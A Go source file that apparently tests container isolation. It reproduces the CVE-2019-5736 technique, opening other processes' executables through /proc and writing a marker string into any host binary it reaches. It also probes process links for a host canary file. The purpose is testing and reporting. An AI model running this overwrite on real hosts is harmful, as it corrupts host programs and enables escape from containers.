//go:build linux

package main

import (
	"os"
	"strconv"
	"strings"
	"syscall"
)

// exes opens the program of every process that comes by, and writes to what it got
// hold of by way of its own descriptor, as CVE-2019-5736 did. Files of the container
// itself are left alone. The report counts, by file and outcome.
func exes() {
	counts := map[string]map[string]int{}
	count := func(name, what string) {
		if counts[name] == nil {
			counts[name] = map[string]int{}
		}
		counts[name][what]++
	}
	type inode struct{ dev, ino uint64 }
	held := map[inode]string{} // by way of the descriptor
	for more := until(); more(); {
		others(func(proc string) {
			f, err := os.Open(proc + "/exe")
			if err != nil {
				count("", "open to read: "+outcome(err))
				return
			}
			name, _ := os.Readlink(fd(f))
			var st syscall.Stat_t
			check(syscall.Fstat(int(f.Fd()), &st))
			id := inode{st.Dev, st.Ino}
			if _, known := held[id]; known || own(fd(f), name) || len(held) > 1000 {
				count(name, "open to read: known")
				f.Close()
				return
			}
			count(name, "open to read: ok")
			held[id] = fd(f)
			keep = append(keep, f)
		})
		for _, at := range held {
			name, _ := os.Readlink(at)
			w, err := os.OpenFile(at, os.O_WRONLY, 0)
			if err != nil {
				count(name, "open to write: "+outcome(err))
				continue
			}
			_, err = w.WriteString("OVERWRITTEN")
			count(name, "write: "+outcome(err))
			w.Close()
		}
	}
	report(counts)
}

var keep []*os.File // never to be closed

func fd(f *os.File) string { return "/proc/self/fd/" + strconv.Itoa(int(f.Fd())) }

// links reads where the descriptors, the root, the working directory and the program
// of every process lead, and looks for a file of the host below them. The report
// counts what was seen.
func links(canary string) {
	counts := map[string]int{}
	for more := until(); more(); {
		others(func(proc string) {
			names := []string{"root", "cwd", "exe"}
			list, err := os.ReadDir(proc + "/fd")
			if err != nil {
				counts["fd: "+outcome(err)]++
			}
			for _, l := range list {
				names = append(names, "fd/"+l.Name())
			}
			for _, n := range names {
				look(counts, proc+"/"+n, canary)
			}
		})
	}
	report(counts)
}

func look(counts map[string]int, link, canary string) {
	to, err := os.Readlink(link)
	if err != nil {
		counts["link: "+outcome(err)]++
		return
	}
	kind, _, _ := strings.Cut(to, ":")
	switch {
	case !strings.HasPrefix(to, "/"):
		counts["kind "+kind]++
	case own(link, to):
		counts["the container's"]++
	default:
		if _, err := os.Stat(link); err == nil { // it has not gone meanwhile
			counts["foreign "+to]++
		}
	}
	for _, below := range []string{canary, "file"} {
		if data, err := os.ReadFile(link + "/" + below); err == nil && strings.HasPrefix(string(data), "canary") {
			counts["REACHED"]++
		}
	}
}
